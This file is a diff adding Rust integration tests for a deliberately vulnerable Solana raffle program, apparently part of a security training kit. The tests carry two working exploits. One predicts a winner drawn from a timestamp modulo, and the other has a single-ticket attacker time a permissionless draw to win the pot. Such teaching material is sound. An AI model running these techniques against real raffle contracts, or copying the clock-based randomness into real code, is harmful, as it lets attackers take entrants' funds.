@@ -0,0 +1,226 @@
+// Integration tests for RAFFLE-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/raffle/raffle-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{pubkey::Pubkey, signature::{Keypair, Signer}};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use utils::*;
+
+// EXPLOIT: V001 - Clock-based randomness
+// Demonstrates: An observer computes the winner before the draw happens
+struct PredictableWinner;
+
+const PREDICTABLE_ENTRANTS: usize = 5;
+
+struct PredictableWinnerState {
+    scenario: RaffleScenario,
+    raffle: Pubkey,
+    entrants: Vec<Keypair>,
+    predicted: Pubkey,
+}
+
+impl ExploitScenario for PredictableWinner {
+    type State = PredictableWinnerState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Predicted Winner - Timestamp Modulo Randomness",
+            severity: Severity::High,
+            lesson: "Never derive randomness from the clock, slot or other values callers can see",
+        }
+    }
+
+    fn setup(&self) -> PredictableWinnerState {
+        println!("This test demonstrates how unix_timestamp % tickets_sold gives a winner that");
+        println!("anyone can compute from public data before the draw transaction lands.");
+        println!();
+
+        let mut scenario = setup_raffle_scenario();
+        let raffle = create_default_raffle(&mut scenario, 1);
+        let entrants: Vec<_> = (0..PREDICTABLE_ENTRANTS).map(|_| buy_ticket(&mut scenario, &raffle)).collect();
+        println!("[Setup] {} entrants bought one ticket each", entrants.len());
+
+        advance_time(&mut scenario.svm, RAFFLE_DURATION);
+
+        PredictableWinnerState { scenario, raffle, entrants, predicted: Pubkey::default() }
+    }
+
+    fn exploit(&self, state: &mut PredictableWinnerState) -> TransactionResult {
+        let PredictableWinnerState { scenario, raffle, entrants, predicted } = state;
+        let tickets = entrants.len() as i64;
+
+        // Everything the draw uses is public: the clock and the ticket count
+        let draw_ts = current_timestamp(&scenario.svm);
+        let predicted_index = (draw_ts % tickets) as usize;
+        *predicted = entrants[predicted_index].pubkey();
+
+        println!();
+        println!("[EXPLOIT] Observer reads the clock ({}) and the ticket count ({})", draw_ts, tickets);
+        println!("[EXPLOIT] Predicted winner: ticket {} ({})", predicted_index, predicted);
+        println!("[EXPLOIT] In secure version, the winner depends on an unrevealed secret");
+
+        let winner_ata = get_associated_token_address(predicted, &scenario.mint);
+        let ix = build_draw_winner_ix(&scenario.creator.pubkey(), raffle, &scenario.mint, &winner_ata);
+        send_ix(&mut scenario.svm, ix, &scenario.creator)
+    }
+
+    fn assert_impact(&self, state: &mut PredictableWinnerState) -> u64 {
+        println!();
+        println!("[RESULT] Draw paying the predicted winner: SUCCESS");
+
+        assert_eq!(get_raffle_result(&state.scenario.svm, &state.raffle), (true, state.predicted));
+        println!("[IMPACT] The on-chain winner matches the prediction exactly");
+        println!("[IMPACT] Anyone who can time a transaction can turn this into a guaranteed win");
+
+        TICKET_PRICE * state.entrants.len() as u64
+    }
+}
+
+#[test]
+fn test_exploit_predictable_winner() {
+    run_exploit(&PredictableWinner);
+}
+
+// EXPLOIT: V001 + V002 - Predictable randomness and permissionless draw
+// Demonstrates: An entrant with one ticket draws in the second they win
+struct TimedDraw;
+
+struct TimedDrawState {
+    scenario: RaffleScenario,
+    raffle: Pubkey,
+    honest: Vec<Keypair>,
+    attacker: Keypair,
+    attacker_before: u64,
+}
+
+impl TimedDrawState {
+    fn pot(&self) -> u64 {
+        TICKET_PRICE * (self.honest.len() as u64 + 1)
+    }
+}
+
+impl ExploitScenario for TimedDraw {
+    type State = TimedDrawState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Timed Draw - Anyone Can Trigger the Draw",
+            severity: Severity::Critical,
+            lesson: "Restrict the draw to a party who cannot bias it, and use commit-reveal or a VRF",
+        }
+    }
+
+    fn setup(&self) -> TimedDrawState {
+        println!("This test demonstrates how letting any signer call draw_winner lets an entrant");
+        println!("pick the exact second of the draw, and with it the winning ticket.");
+        println!();
+
+        let mut scenario = setup_raffle_scenario();
+        let raffle = create_default_raffle(&mut scenario, 1);
+
+        let honest: Vec<_> = (0..3).map(|_| buy_ticket(&mut scenario, &raffle)).collect();
+        let attacker = buy_ticket(&mut scenario, &raffle);
+        let attacker_before = token_balance(&scenario.svm, &get_associated_token_address(&attacker.pubkey(), &scenario.mint));
+
+        let state = TimedDrawState { scenario, raffle, honest, attacker, attacker_before };
+        let tickets = state.honest.len() + 1;
+        println!("[Setup] {} honest entrants hold tickets 0-2", state.honest.len());
+        println!("[Setup] Attacker holds ticket {} (1 of {} tickets, pot = {} tokens)", tickets - 1, tickets, state.pot() / ONE_TOKEN);
+        state
+    }
+
+    fn exploit(&self, state: &mut TimedDrawState) -> TransactionResult {
+        let TimedDrawState { scenario, raffle, honest, attacker, .. } = state;
+        let tickets = (honest.len() + 1) as i64;
+        let attacker_index = tickets - 1;
+
+        advance_time(&mut scenario.svm, RAFFLE_DURATION);
+
+        // Wait for the first second whose timestamp selects the attacker's ticket
+        let now = current_timestamp(&scenario.svm);
+        let wait = (attacker_index - now % tickets).rem_euclid(tickets);
+        advance_time(&mut scenario.svm, wait);
+        let draw_ts = current_timestamp(&scenario.svm);
+
+        println!();
+        println!("[EXPLOIT] Raffle ended; attacker waits {}s until {} % {} == {}", wait, draw_ts, tickets, attacker_index);
+        println!("[EXPLOIT] Attacker calls draw_winner themselves, paying their own account");
+        println!("[EXPLOIT] In secure version, this should FAIL: only the creator can draw");
+
+        let attacker_ata = get_associated_token_address(&attacker.pubkey(), &scenario.mint);
+        let ix = build_draw_winner_ix(&attacker.pubkey(), raffle, &scenario.mint, &attacker_ata);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut TimedDrawState) -> u64 {
+        let pot = state.pot();
+        let TimedDrawState { scenario, raffle, honest, attacker, attacker_before } = state;
+        let mint = scenario.mint;
+
+        println!();
+        println!("[RESULT] Timed draw: SUCCESS");
+
+        let attacker_ata = get_associated_token_address(&attacker.pubkey(), &mint);
+        assert_eq!(token_balance(&scenario.svm, &attacker_ata), *attacker_before + pot);
+        assert_eq!(get_raffle_result(&scenario.svm, raffle), (true, attacker.pubkey()));
+        for entrant in honest.iter() {
+            let ata = get_associated_token_address(&entrant.pubkey(), &mint);
+            assert_eq!(token_balance(&scenario.svm, &ata), ENTRANT_BALANCE - TICKET_PRICE);
+        }
+        println!("[IMPACT] Attacker won the {} token pot with a single ticket", pot / ONE_TOKEN);
+        println!("[IMPACT] Honest entrants each lost their ticket price with no real chance");
+
+        // The honest entrants' tickets; the attacker's own ticket comes back to them
+        pot - TICKET_PRICE
+    }
+}
+
+#[test]
+fn test_exploit_timed_draw() {
+    run_exploit(&TimedDraw);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal raffle lifecycle");
+
+    let mut scenario = setup_raffle_scenario();
+    let mint = scenario.mint;
+    let raffle = create_default_raffle(&mut scenario, 1);
+    println!("[Success] Raffle created");
+
+    let entrants: Vec<_> = (0..3).map(|_| buy_ticket(&mut scenario, &raffle)).collect();
+    assert_eq!(token_balance(&scenario.svm, &derive_vault(&raffle, &mint)), 3 * TICKET_PRICE);
+    println!("[Success] Three tickets sold");
+
+    advance_time(&mut scenario.svm, RAFFLE_DURATION);
+    let winner = entrants[(current_timestamp(&scenario.svm) % 3) as usize].pubkey();
+    let winner_ata = get_associated_token_address(&winner, &mint);
+
+    let ix = build_draw_winner_ix(&scenario.creator.pubkey(), &raffle, &mint, &winner_ata);
+    send_ix(&mut scenario.svm, ix, &scenario.creator).expect("Draw should succeed");
+    assert_eq!(token_balance(&scenario.svm, &winner_ata), ENTRANT_BALANCE + 2 * TICKET_PRICE);
+    assert_eq!(token_balance(&scenario.svm, &derive_vault(&raffle, &mint)), 0);
+    println!("[Success] Creator drew the winner and the pot was paid out");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}